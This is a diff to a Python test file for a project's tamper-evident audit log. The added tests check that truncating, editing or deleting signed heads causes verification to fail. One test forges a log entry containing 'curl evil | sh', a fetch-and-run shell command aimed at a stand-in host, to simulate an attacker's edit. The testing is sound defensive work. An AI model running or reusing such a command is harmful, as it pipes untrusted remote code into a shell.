@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import json
+import os
 import sqlite3
 import sys
 
@@ -89,7 +91,8 @@ async def test_a_deleted_entry_fails_verification(node: Node) -> None:
 
 async def cli(node: Node, *args: str) -> tuple[int, str]:
     where = ["--data-dir", str(node.settings.data_dir)]
-    done = await anyio.run_process([sys.executable, "-m", "noosphere", "audit", *args, *where], check=False)
+    command = [sys.executable, "-m", "noosphere", "audit", *args, *where]
+    done = await anyio.run_process(command, check=False, env={**os.environ, "COLUMNS": "300"})  # no wrapping
     return done.returncode, (done.stdout + done.stderr).decode()
 
 
@@ -106,3 +109,54 @@ async def test_the_cli_verifies_and_reports_tampering(node: Node) -> None:
     code, bad = await cli(node, "verify")
     assert code == 1
     assert "entry 0 was altered" in bad
+
+
+async def test_every_signed_head_is_kept_in_an_append_only_file_beside_the_database(node: Node) -> None:
+    from noosphere.governance import head_file
+
+    await fill(node, 3)
+    first = await node.audit.sign_head()
+    await fill(node, 2, start=3)
+    second = await node.audit.sign_head()
+    path = node.settings.data_dir / head_file.HEAD_FILE
+    assert head_file.read(path) == [first, second]
+    assert path.stat().st_mode & 0o777 == 0o600
+
+
+async def test_a_log_cut_short_with_its_heads_fails_against_the_head_file(node: Node) -> None:
+    """Deleting the newest entries together with the signed heads above them used to verify."""
+    await fill(node, 4)
+    await node.audit.sign_head()
+    await fill(node, 4, start=4)
+    await node.audit.sign_head()
+    edit(node, "DELETE FROM audit_log WHERE seq >= 4")
+    edit(node, "DELETE FROM audit_heads WHERE size > 4")
+    assert await check(node) == []  # what the database alone says: nothing wrong
+    code, shown = await cli(node, "verify")
+    assert code == 1
+    assert "TRUNCATED: the head file covers 8 entries; the database holds 4" in shown
+
+
+async def test_an_edited_log_with_every_head_deleted_fails(node: Node) -> None:
+    """Editing an entry and deleting all heads used to verify: now the head file, a trusted head
+    kept elsewhere, and the lack of any signed head each fail it."""
+    await fill(node, 5)
+    await node.audit.sign_head()
+    code, exported = await cli(node, "heads")
+    assert code == 0
+    kept = json.loads(exported.strip().splitlines()[-1])
+    trusted = f"{kept['size']}:{kept['root']}"
+    code, fine = await cli(node, "verify", "--trusted-head", trusted)
+    assert code == 0, fine
+    from noosphere.governance.merkle import leaf_hash
+
+    forged = (await node.store.audit_entries(1, 1))[0].entry.replace("git log -1", "curl evil | sh")
+    edit(node, "UPDATE audit_log SET entry = ?, leaf = ? WHERE seq = 1", forged, leaf_hash(forged.encode()))
+    edit(node, "DELETE FROM audit_heads")
+    code, shown = await cli(node, "verify")
+    assert code == 1 and "REWRITTEN" in shown and "the head file" in shown
+    (node.settings.data_dir / "audit-heads.jsonl").unlink()  # the attacker removes the file too
+    code, shown = await cli(node, "verify")
+    assert code == 1 and "UNSIGNED" in shown
+    code, shown = await cli(node, "verify", "--trusted-head", trusted)
+    assert code == 1 and "REWRITTEN" in shown and "the trusted head" in shown
